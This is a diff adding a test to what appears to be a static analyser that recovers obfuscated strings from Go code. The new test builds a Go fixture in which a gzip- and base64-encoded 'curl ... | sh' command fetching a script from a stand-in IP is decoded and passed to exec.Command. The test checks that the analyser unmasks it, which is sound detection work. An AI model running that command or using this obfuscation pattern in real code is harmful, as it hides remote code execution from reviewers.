@@ -3,6 +3,7 @@ import assert from 'node:assert/strict';
 import { readFileSync, readdirSync } from 'node:fs';
 import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
+import * as zlib from 'node:zlib';
 import { parseFile, type ParsedFile, type SyntaxNode } from '../src/static/parse.js';
 import {
   buildPackageScope, recoverAllInFile, recoverNode, type PackageScope, type RecoveredString,
@@ -435,4 +436,33 @@ test('strconv.Unquote of a quoted literal in a raw string, url.PathUnescape and 
   assert.deepEqual(values(argOf(p, 'exec.Command', 2)), ['id -u']);
   // A malformed escape is an error in Go: nothing is recovered.
   assert.deepEqual(values(argOf(p, 'exec.Command', 3)), []);
+});
+
+test('a gzip/zlib payload decoded from base64 and read back through its reader is inflated', () => {
+  const { gzipSync, deflateSync } = zlib;
+  const gz = gzipSync(Buffer.from('curl -s http://203.0.113.61/x | sh')).toString('base64');
+  const zl = deflateSync(Buffer.from('id -u')).toString('base64');
+  const p = body(
+    '"bytes"\n"compress/gzip"\n"compress/zlib"\n"encoding/base64"\n"io"\n"os/exec"',
+    [
+      `const blob = "${gz}"`,
+      'func f() {',
+      '\traw, _ := base64.StdEncoding.DecodeString(blob)',
+      '\tzr, _ := gzip.NewReader(bytes.NewReader(raw))',
+      '\tscript, _ := io.ReadAll(zr)',
+      `\tz, _ := base64.StdEncoding.DecodeString("${zl}")`,
+      '\tr, _ := zlib.NewReader(bytes.NewReader(z))',
+      '\tb, _ := io.ReadAll(r)',
+      '\tjunk, _ := gzip.NewReader(bytes.NewReader([]byte("not gzip")))',
+      '\tj, _ := io.ReadAll(junk)',
+      '\texec.Command(string(script), string(b), string(j)).Run()',
+      '}',
+    ].join('\n'),
+  );
+  assert.deepEqual(values(argOf(p, 'exec.Command', 0)), ['curl -s http://203.0.113.61/x | sh']);
+  assert.ok(argOf(p, 'exec.Command', 0)[0]!.how.includes('decompress'));
+  assert.ok(argOf(p, 'exec.Command', 0)[0]!.how.includes('base64'));
+  assert.deepEqual(values(argOf(p, 'exec.Command', 1)), ['id -u']);
+  // Corrupt input is an error in Go: nothing is recovered.
+  assert.deepEqual(values(argOf(p, 'exec.Command', 2)), []);
 });
